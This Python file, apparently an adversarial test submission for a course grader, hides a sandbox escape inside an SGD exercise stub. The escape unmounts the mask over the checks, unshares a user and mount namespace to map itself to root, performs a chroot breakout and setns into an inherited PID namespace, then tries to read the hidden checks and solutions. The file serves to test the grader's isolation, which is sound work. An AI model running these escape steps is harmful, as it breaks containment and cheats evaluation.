# attack: escape the jail's mounts: mount/umount directly, then unshare a user + mount namespace (full capabilities there), map itself to root, unmount the mask over the hidden checks, bind grader/ without its submounts, chroot out of a chroot, setns into the inherited PID-namespace descriptor
# holds: the host's tree is gone and the masks are locked: no escape shows the checks, solutions/ or anything outside, and the attacker scores 0
"""Exercise 3: A manual SGD step (attacker: namespace escape)."""

import ctypes
import os

import grader

BREACH = "BRE" "ACH!"
CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWPID = 0x00020000, 0x10000000, 0x20000000
MS_BIND, MS_REC, MNT_DETACH = 4096, 16384, 2


def _look(where: str, notes: list[str]) -> None:
    package = os.path.dirname(grader.__file__)
    for checks in (os.path.join(package, "lesson", "exercise_3", "checks.py"), "/tmp/g/checks.py"):
        try:
            with open(checks, "rb") as f:
                if f.read(64):
                    notes.append(f"{BREACH} {where}: read {checks}")
        except OSError:
            pass
    for path in (os.path.join(os.path.dirname(package), "solutions"),
                 "{COURSE}/solutions", "{COURSE}/tests", "{SUBMISSIONS}", "{RESULTS}"):
        try:
            listing = [n for n in os.listdir(path) if n != "30_mount_unshare_escape"]  # its own entry is no news
            if listing:
                notes.append(f"{BREACH} {where}: {path} lists {sorted(listing)[:8]}")
        except OSError:
            pass


def _attack() -> list[str]:
    libc = ctypes.CDLL(None, use_errno=True)
    for f in ("mount", "umount2", "unshare", "setns", "chroot"):
        getattr(libc, f).restype = ctypes.c_int

    def call(what, result):
        notes.append(f"{what}: {'ok' if result == 0 else os.strerror(ctypes.get_errno())}")
        return result == 0

    notes = []
    checks = os.path.join(os.path.dirname(grader.__file__), "lesson", "exercise_3", "checks.py").encode()
    call("umount checks", libc.umount2(checks, MNT_DETACH))
    call("mount tmpfs on /tmp", libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
    for fd in range(3, 16):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if target.startswith("pid:"):
            call(f"setns fd {fd} ({target})", libc.setns(fd, CLONE_NEWPID))
    _look("as is", notes)
    uid, gid = os.getuid(), os.getgid()
    if not call("unshare user+mount", libc.unshare(CLONE_NEWUSER | CLONE_NEWNS)):
        return notes
    libc.prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: /proc/self/*_map become ours to write
    for path, text in (("/proc/self/setgroups", "deny"), ("/proc/self/uid_map", f"0 {uid} 1"),
                       ("/proc/self/gid_map", f"0 {gid} 1")):
        try:
            with open(path, "w") as f:
                f.write(text)
        except OSError as exc:
            notes.append(f"{path}: {exc.strerror}")
    notes.append(f"uid in the new namespace: {os.getuid()}")
    call("umount checks (userns)", libc.umount2(checks, MNT_DETACH))
    call("tmpfs on /tmp (userns)", libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
    os.makedirs("/tmp/g", exist_ok=True)
    call("bind grader/ without submounts", libc.mount(os.path.dirname(checks), b"/tmp/g", None, MS_BIND, None))
    _look("in a user namespace", notes)
    os.makedirs("/tmp/jail", exist_ok=True)
    if call("chroot /tmp/jail", libc.chroot(b"/tmp/jail")):
        for _ in range(20):
            os.chdir("..")
        call("chroot back out", libc.chroot(b"."))
        _look("after the chroot escape", notes)
    return notes


def sgd_update(params, lr):
    if os.getpid() == 1 and not os.__dict__.get("_attack_done"):
        os._attack_done = True
        raise RuntimeError("attack report: " + " | ".join(_attack()))
    raise NotImplementedError


def sgd_momentum_update(params, velocities, lr, momentum):
    raise NotImplementedError
